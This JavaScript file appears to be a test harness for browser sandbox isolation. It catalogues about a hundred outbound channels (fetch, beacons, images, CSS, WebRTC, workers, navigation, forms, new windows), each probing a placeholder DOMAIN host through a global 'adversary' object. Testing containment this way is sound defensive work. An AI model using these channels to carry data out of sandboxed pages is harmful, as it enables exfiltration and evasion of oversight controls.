// Every way out of a document that we know of. Each probe tries to reach a name of its own below DOMAIN, which stands for
// that of its arm: what a browser remembers of the control's names says nothing of the widget's. Whether anything arrives
// is seen outside. `leaves` marks those that may take the document away, `press` those that a browser
// lets through only after a press.
(() => {
  const at = (name) => `${name}.DOMAIN`;
  const url = (name) => `https://${at(name)}/${name}`;
  const http = (name) => `http://${at(name)}/${name}`;
  const make = (tag, fields = {}, attributes = {}) => {
    const element = Object.assign(document.createElement(tag), fields);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    return element;
  };
  const head = (tag, attributes) => {
    const element = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.head.append(element);
    return element;
  };
  const style = (text) => {
    const element = document.createElement('style');
    element.textContent = text;
    document.head.append(element);
  };
  const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
  const page = (text) => blob(text, 'text/html');
  const peer = async (urls) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
    connection.createDataChannel('a');
    await connection.setLocalDescription(await connection.createOffer());
    globalThis.kept = connection;
  };
  const svg = (tag, attributes, parent = document.body) => {
    const element = document.createElementNS('http://www.w3.org/2000/svg', tag);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    parent.append(element);
    return element;
  };

  const probes = {
    // Requests.
    'fetch': { run: (n) => fetch(url(n)) },
    'fetch-keepalive': { run: (n) => fetch(url(n), { method: 'POST', body: 'a', keepalive: true, mode: 'no-cors' }) },
    'fetch-later': { run: (n) => fetchLater(url(n), { activateAfter: 0 }) },
    'xhr': { run: (n) => { const x = new XMLHttpRequest(); x.open('GET', url(n)); x.send(); } },
    'beacon': { run: (n) => navigator.sendBeacon(url(n), 'a') },
    'event-source': { run: (n) => new EventSource(url(n)) },
    'web-socket': { run: (n) => new WebSocket(`wss://${at(n)}/`) },
    'web-socket-stream': { run: (n) => new WebSocketStream(`wss://${at(n)}/`) },
    'web-transport': { run: (n) => new WebTransport(url(n)) },
    'import': { run: (n) => import(url(n)) },
    // Pictures, sounds, fonts and other parts of a page.
    'image': { run: (n) => { new Image().src = url(n); } },
    'image-element': { run: (n) => make('img', { src: url(n) }) },
    'image-srcset': { run: (n) => make('img', { srcset: `${url(n)} 1x` }) },
    'image-attribute': { run: (n) => make('img', {}, { src: url(n) }) },
    'picture': { run: (n) => { const p = make('picture'); const s = document.createElement('source'); s.srcset = url(n); p.append(s, document.createElement('img')); } },
    'input-image': { run: (n) => make('input', { type: 'image', src: url(n) }) },
    'svg-image': { run: (n) => svg('image', { href: url(n) }, svg('svg', {})) },
    'svg-use': { run: (n) => svg('use', { href: `${url(n)}#a` }, svg('svg', {})) },
    'svg-filter-image': { run: (n) => { const s = svg('svg', {}); const f = svg('filter', { id: 'f' }, s); svg('feImage', { href: url(n) }, f); svg('rect', { width: 9, height: 9, filter: 'url(#f)' }, s); } },
    'audio': { run: (n) => { new Audio(url(n)).preload = 'auto'; } },
    'audio-element': { run: (n) => make('audio', { src: url(n), preload: 'auto' }) },
    'video': { run: (n) => make('video', { src: url(n), preload: 'auto' }) },
    'video-poster': { run: (n) => make('video', { poster: url(n) }) },
    'track': { run: (n) => { const v = make('video', { src: 'data:video/mp4,' }); const t = document.createElement('track'); Object.assign(t, { src: url(n), default: true }); v.append(t); t.track.mode = 'showing'; } },
    'object': { run: (n) => make('object', { data: url(n) }) },
    'embed': { run: (n) => make('embed', { src: url(n) }) },
    'frame': { run: (n) => make('iframe', { src: url(n) }) },
    'frame-srcdoc': { run: (n) => make('iframe', { srcdoc: `<img src="${url(n)}">` }) },
    'frame-data': { run: (n) => make('iframe', { src: `data:text/html,<img src="${url(n)}">` }) },
    'frame-script': { run: (n) => make('iframe', { src: `javascript:'<img src="${url(n)}">'` }) },
    'script': { run: (n) => make('script', { src: url(n) }) },
    'script-inline': { run: (n) => make('script', { textContent: `fetch('${url(n)}')` }) },
    'import-map': { run: (n) => { make('script', { type: 'importmap', textContent: `{"imports":{"a":"${url(n)}"}}` }); return import('a'); } },
    'speculation': { run: (n) => make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [url(n)], eagerness: 'immediate' }] }) }) },
    // Styles.
    'style-attribute': { run: (n) => make('div', { textContent: 'a' }, { style: `background: url(${url(n)})` }) },
    'style-property': { run: (n) => { make('div', { textContent: 'a' }).style.backgroundImage = `url(${url(n)})`; } },
    'style-text': { run: (n) => { make('div', { textContent: 'a' }).style.cssText = `background: url(${url(n)})`; } },
    'style-element': { run: (n) => style(`body { background: url(${url(n)}) }`) },
    'style-import': { run: (n) => style(`@import "${url(n)}";`) },
    'style-rule': { run: (n) => document.styleSheets[0].insertRule(`body { border-image: url(${url(n)}) 1 }`, 0) },
    'style-sheet': { run: (n) => { const s = new CSSStyleSheet(); s.replaceSync(`html { background: url(${url(n)}) }`); document.adoptedStyleSheets = [s]; } },
    'style-link': { run: (n) => head('link', { rel: 'stylesheet', href: url(n) }) },
    'font-face': { run: (n) => new FontFace('a', `url(${url(n)})`).load() },
    'font-rule': { run: (n) => { style(`@font-face { font-family: probe; src: url(${url(n)}) }`); make('p', { textContent: 'a' }, { class: 'a' }).style.fontFamily = 'probe'; } },
    'background-attribute': { run: (n) => make('table', {}, { background: url(n) }) },
    // Hints.
    'dns-prefetch': { run: (n) => head('link', { rel: 'dns-prefetch', href: `//${at(n)}` }) },
    'preconnect': { run: (n) => head('link', { rel: 'preconnect', href: url(n) }) },
    'prefetch': { run: (n) => head('link', { rel: 'prefetch', href: url(n) }) },
    'preload': { run: (n) => head('link', { rel: 'preload', as: 'image', href: url(n) }) },
    'module-preload': { run: (n) => head('link', { rel: 'modulepreload', href: url(n) }) },
    'icon': { run: (n) => head('link', { rel: 'icon', href: url(n) }) },
    'manifest': { run: (n) => head('link', { rel: 'manifest', href: url(n) }) },
    // Markup from text.
    'inner-html': { run: (n) => { make('div').innerHTML = `<img src="${url(n)}">`; } },
    'outer-html': { run: (n) => { make('div').outerHTML = `<img src="${url(n)}">`; } },
    'adjacent-html': { run: (n) => document.body.insertAdjacentHTML('beforeend', `<img src="${url(n)}">`) },
    'set-html-unsafe': { run: (n) => make('div').setHTMLUnsafe(`<img src="${url(n)}">`) },
    'range-fragment': { run: (n) => document.body.append(document.createRange().createContextualFragment(`<img src="${url(n)}">`)) },
    'dom-parser': { run: (n) => document.body.append(document.adoptNode(new DOMParser().parseFromString(`<img src="${url(n)}">`, 'text/html').querySelector('img'))) },
    'new-document': { run: (n) => { const d = document.implementation.createHTMLDocument(''); const i = d.createElement('img'); document.body.append(i); i.src = url(n); } },
    'template': { run: (n) => { const t = document.createElement('template'); t.innerHTML = `<img src="${url(n)}">`; document.body.append(t.content); } },
    'shadow-root': { run: (n) => { make('div').attachShadow({ mode: 'open' }).innerHTML = `<img src="${url(n)}">`; } },
    'custom-element': { run: (n) => { customElements.define('a-b', class extends HTMLElement { connectedCallback() { fetch(url(n)); } }); make('a-b'); } },
    'clone': { run: (n) => { const i = document.importNode(document.createElement('img')); document.body.append(i); i.src = url(n); } },
    'handler-attribute': { run: (n) => make('div', {}, { onclick: `fetch('${url(n)}')` }).click() },
    // Code from text.
    'eval': { run: (n) => eval(`fetch('${url(n)}')`) },
    'function': { run: (n) => new Function(`fetch('${url(n)}')`)() },
    'timer-text': { run: (n) => setTimeout(`fetch('${url(n)}')`, 0) },
    // Other threads.
    'worker': { run: (n) => new Worker(blob(`fetch('${url(n)}')`)) },
    'worker-data': { run: (n) => new Worker(`data:text/javascript,fetch('${url(n)}')`) },
    'worker-import': { run: (n) => new Worker(blob(`importScripts('${url(n)}')`)) },
    'shared-worker': { run: (n) => new SharedWorker(`data:text/javascript,fetch('${url(n)}')`) },
    'service-worker': { run: (n) => navigator.serviceWorker.register(`/worker-of-${n}.js`) },
    'worklet': { run: (n) => CSS.paintWorklet.addModule(url(n)) },
    'audio-worklet': { run: (n) => new AudioContext().audioWorklet.addModule(url(n)) },
    // Peers.
    'rtc-stun': { run: (n) => peer(`stun:${at(n)}:3478`) },
    'rtc-turn': { run: (n) => peer(`turn:${at(n)}:3478`) },
    'rtc-turn-tcp': { run: (n) => peer(`turn:${at(n)}:3478?transport=tcp`) },
    'rtc-turns': { run: (n) => peer(`turns:${at(n)}:5349`) },
    // Reports.
    'ping': { press: true, run: (n) => { const a = make('a', { href: '#a', ping: url(n) }); a.click(); } },
    'attribution': { run: (n) => make('img', {}, { attributionsrc: url(n) }) },
    'payment': { run: (n) => new PaymentRequest([{ supportedMethods: url(n) }], { total: { label: 'a', amount: { currency: 'USD', value: '1' } } }).canMakePayment() },
    // Going elsewhere.
    'location': { leaves: true, run: (n) => { location = http(n); } },
    'location-href': { leaves: true, run: (n) => { location.href = http(n); } },
    'location-assign': { leaves: true, run: (n) => location.assign(http(n)) },
    'location-replace': { leaves: true, run: (n) => location.replace(http(n)) },
    'blob-image': { leaves: true, run: (n) => { location = page(`<img src="${url(n)}">`); } },
    'blob-hint': { leaves: true, run: (n) => { location = page(`<link rel=dns-prefetch href="//${at(n)}">`); } },
    'blob-refresh': { leaves: true, run: (n) => { location = page(`<meta http-equiv=refresh content="0; url=${http(n)}">`); } },
    'blob-script': { leaves: true, run: (n) => { location = page(`\x3cscript>fetch('${url(n)}')\x3c/script>`); } },
    'navigation': { leaves: true, run: (n) => navigation.navigate(http(n)) },
    'open-self': { leaves: true, run: (n) => open(http(n), '_self') },
    'meta-refresh': { leaves: true, run: (n) => head('meta', { 'http-equiv': 'refresh', content: `0; url=${http(n)}` }) },
    'anchor': { leaves: true, run: (n) => make('a', { href: http(n) }).click() },
    'svg-anchor': { leaves: true, run: (n) => { const a = svg('a', { href: http(n) }, svg('svg', {})); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); } },
    'area': { leaves: true, run: (n) => { const m = make('map'); const a = document.createElement('area'); a.href = http(n); m.append(a); a.click(); } },
    'form': { leaves: true, run: (n) => make('form', { action: http(n) }).submit() },
    'form-button': { leaves: true, run: (n) => { const f = make('form'); const b = document.createElement('button'); b.formAction = http(n); f.append(b); b.click(); } },
    'document-write': { leaves: true, run: (n) => document.write(`<img src="${url(n)}">`) },
    'document-open': { leaves: true, run: (n) => { document.open(); document.write(`<img src="${url(n)}">`); document.close(); } },
    'parent': { leaves: true, press: true, run: (n) => { parent.location = http(n); } },
    'top': { leaves: true, press: true, run: (n) => { top.location = http(n); } },
    // New windows.
    'open': { leaves: true, press: true, run: (n) => open(http(n)) },
    'open-noopener': { leaves: true, press: true, run: (n) => open(http(n), '_blank', 'noopener') },
    'anchor-blank': { leaves: true, press: true, run: (n) => make('a', { href: http(n), target: '_blank' }).click() },
    'form-blank': { leaves: true, press: true, run: (n) => make('form', { action: http(n), target: '_blank' }).submit() },
    'anchor-download': { leaves: true, press: true, run: (n) => make('a', { href: http(n), download: 'a' }).click() },
  };

  const tried = new Set();
  const tries = (id) => {
    tried.add(id);
    try {
      Promise.resolve(probes[id].run(id)).catch(() => {});
    } catch {
      // Refused: what counts is what arrives.
    }
  };
  let armed = null;
  addEventListener(
    'mousedown',
    () => {
      if (armed) tries(armed);
      armed = null;
    },
    true,
  );
  globalThis.adversary = {
    list: () => Object.entries(probes).map(([id, { leaves = false, press = false }]) => ({ id, leaves, press })),
    tries: (ids) => ids.forEach(tries),
    has: (id) => tried.has(id),
    arm: (id) => {
      armed = id;
    },
  };
})();
